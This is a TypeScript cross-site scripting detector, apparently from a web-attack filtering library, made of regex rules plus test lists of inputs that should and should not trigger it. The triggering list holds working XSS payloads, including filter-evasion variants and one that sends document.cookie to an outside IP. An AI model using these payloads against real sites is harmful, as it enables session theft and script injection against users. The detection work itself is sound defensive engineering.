/** Cross-site scripting. */
import { definePayload } from './define-payload.ts'
import { actsOnDocument } from './xss-document.ts'

/** Tags that no form field of prose or rich text has reason to carry. */
const ACTIVE_TAGS =
  /<\s*\/?\s*(?:script|iframe|frame|frameset|object|embed|applet|base|link|meta|isindex|bgsound|layer|xml|svg|math|marquee|body|html|style|form|textarea|title|noscript|template|details|dialog|portal|animate|set|xss)(?=[\s/>"'`(]|$)/

/** Tags that rich text carries; guilty only by their attributes. */
const TAG = /<\s*[a-z!?/][^<>]{0,800}/g
const HANDLER = /[\s/"'`+]on[a-z]{3,24}[^\w\s>]{0,24}\s*=/
const SCRIPT_URL =
  /(?:java|vb|live|j)script:|mocha:|data:text\/html|data:image\/svg\+xml|expression\(|-moz-binding|behaviou?r:|@import|@im\\+port|javascript#/
const BROKEN_IMAGE = /\b(?:low|dyn)src=|&\{|fscommand/

/** Leaving a string inside a script: a quote, then a call that only scripts have. */
const CALLS =
  '(?:alert|confirm|prompt|eval|settimeout|setinterval|function|fetch|atob|import|document\\.(?:write|cookie|location|domain)|window\\.|string\\.fromcharcode|location\\b|top\\[|self\\[|this\\[)'
const BREAK_OUT = new RegExp(`['"\`)}\\]]\\s{0,8}[;,+*^&|<>?:)}/-]{1,12}\\s{0,8}${CALLS}\\s{0,8}[(\`=\\[]`)
const EVENTS =
  'abort|animation\\w+|auxclick|before\\w+|blur|cancel|change|click|close|copy|cut|dblclick|drag\\w*|drop|end|error|focus\\w*|hashchange|input|invalid|key\\w+|load\\w*|message|mouse\\w+|pageshow|paste|play\\w*|pointer\\w+|popstate|reset|resize|scroll\\w*|search|select\\w*|show|start|submit|toggle|touch\\w+|transition\\w+|unload|wheel'
const ATTRIBUTE = new RegExp(`^[^<>]{0,200}["'\`][^<>]{0,80}[\\s/"'\`]on(?:${EVENTS})\\s*=`)
/** A handler that is given a call: no prose has that. */
const ASSIGNED =
  /(?:^|[\s/"'`;])on[a-z]{3,20}\s*=\s*["'`]?\s*[a-z_$][\w.$[\]]{0,40}\s*[(`]|^\s*(?:alert|confirm|prompt|open)\s*\([^()]{0,40}\)\s*>|=\W?\s*javascript:\S|=&\{\(\)\}/
/** An address that is code. `javascript: the good parts` is a title: behind the colon stands a call, a comment, a literal. */
const WHOLE_URL =
  /^\W{0,8}(?:(?:feed|view-source|jar):)?(?:javascript|vbscript|livescript):(?:\/\/|\/\*|%|['"`([{\\]|\S{0,80}[(`=])|^\s*data:(?:text\/(?:html|xml|javascript)|application\/(?:xhtml\+xml|xml|javascript|ecmascript))[;,]|\]\(\s*javascript:\S/
/** A picture that is a document: what stands in it decides. */
const DATA_IMAGE = /data:image\/svg\+xml[^,]{0,40},\s*([\w+/=%-]{0,4000})/i
/** `<` and `>` in UTF-7, and in bytes whose eighth bit a server drops. */
const OTHER_CODES = /(?:^|\W)adw-.{0,200}\Wad4-|\xbc\/?(?:script|svg|img|iframe|body)\b[^\xbe]{0,200}\xbe/
const DOCUMENT =
  /\bdocument\s*\.\s*(?:cookie|write(?:ln)?|location|domain)\s*(?:=|\()|\balert\s*\(\s*(?:document\.|string\.fromcharcode|['"`/]?xss)|string\s*[.[]\s*['"]?fromcharcode/
const STYLE =
  /\b(?:expression\s*\(\s*(?:alert|confirm|prompt|eval|document|window|this|function|['"`])|-moz-binding\s*:|background(?:-image)?\s*:\s*url\s*\(\s*["']?\s*javascript:)/

const LONGEST = 8192

function isScript(original: string): boolean {
  if (!/[<>'"`:(=]|ad4-|\\u003c|\\x3c|\xbc/i.test(original)) return false
  const cut = original.length > LONGEST ? original.slice(0, LONGEST) : original
  const text = unescapeScript(cut.toLowerCase()).replace(/[\0\x01-\x08\x0b\x0c\x0e-\x1f]/g, '')
  if (text.includes('<') && hasActiveTag(text)) return true
  return (
    WHOLE_URL.test(text.replace(/[\t\r\n]/g, '')) ||
    OTHER_CODES.test(text) ||
    isActiveImage(cut) ||
    actsOnDocument(text) ||
    BREAK_OUT.test(text) ||
    ATTRIBUTE.test(text) ||
    ASSIGNED.test(text) ||
    DOCUMENT.test(text) ||
    STYLE.test(text)
  )
}

/** `\u003c`, `\x3c`: how a script writes what a filter looks for. */
function unescapeScript(lower: string): string {
  if (!lower.includes('\\')) return lower
  return lower.replace(/\\(?:u00|x)([2-7][0-9a-f])/g, (_all, hex: string) =>
    String.fromCharCode(Number.parseInt(hex, 16)),
  )
}

/** Whether the text carries an SVG picture, plain or in base64, with script in it. */
function isActiveImage(text: string): boolean {
  const body = DATA_IMAGE.exec(text)?.[1]
  if (body === undefined || body === '') return false
  try {
    const picture = atob(body.replace(/[^\w+/]/g, '').slice(0, 4000 & ~3)).toLowerCase()
    return /<script|[\s/"']on[a-z]{3,24}\s*=|javascript:/.test(picture)
  } catch {
    return false
  }
}

function hasActiveTag(text: string): boolean {
  if (ACTIVE_TAGS.test(text)) return true
  for (const [tag] of text.matchAll(TAG)) {
    // Browsers drop white space and comments inside `java script:`; so do we.
    const joined = tag.replace(/\/\*[^*]{0,200}\*\/|[\s\\]/g, '')
    if (
      HANDLER.test(tag) ||
      SCRIPT_URL.test(joined) ||
      BROKEN_IMAGE.test(tag) ||
      /^<[!?]\s*(?:import|xml|entity|\[cdata\[)/.test(tag)
    )
      return true
  }
  return false
}

export const xss = definePayload({
  id: 'xss',
  title: 'Cross-site scripting',
  severity: 'medium',
  exploit: true,
  technique: 'T1189',
  value: value => isScript(value.text),
  fires: [
    'GET /s?q=%3Cscript%3Ealert(1)%3C/script%3E',
    'GET /s?q=%22%3E%3Cimg+src=x+onerror=alert(1)%3E',
    'GET /s?q=%22+onmouseover=%22alert(1)',
    'GET /s?u=javascript:alert(document.domain)',
    'GET /s?q=%253Csvg/onload=alert(1)%253E',
    "GET /s?q=';alert(1);//",
    'GET /s?q=\\x3cscript\\x3ealert(1)\\x3c/script\\x3e',
    { value: '<a href="jav&#x09;ascript:alert(1)">x</a>' },
    { value: '<scr<script>ipt>alert(1)</scr</script>ipt>' },
    { value: '<div style="width: expression(alert(1))">' },
    { value: '"-alert(1)-"' },
    { value: "{{constructor.constructor('alert(1)')()}}" },
    { value: 'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+' },
    'GET /s?q=%2BADw-script%2BAD4-alert(1)%2BADw-/script%2BAD4-',
    'GET /s?q=%EF%BC%9Cscript%EF%BC%9Ealert(1)',
    "GET /s?q=fetch('//203.0.113.9/?'%2Bdocument.cookie)",
  ],
  quiet: [
    'GET /s?q=a+%3C+b+and+c+%3E+d',
    'GET /s?q=i+%3C3+you',
    { value: '<p>Some <b>bold</b> text with <a href="https://www.example/">a link</a></p>' },
    { value: '<img src="https://www.example/a.jpg" alt="one = two">' },
    'GET /s?q=javascript+tutorial',
    'GET /s?q=how+to+alert(someone)+in+time',
    'GET /redirect?url=https://www.example/?a=b',
    { value: 'He said "on time = good"' },
    'GET /s?q=script:+the+making+of',
    'GET /s?q=javascript:+the+good+parts',
    'GET /s?q=document.cookie',
    { value: 'base64: PHNjcmlwdD4=' },
  ],
})
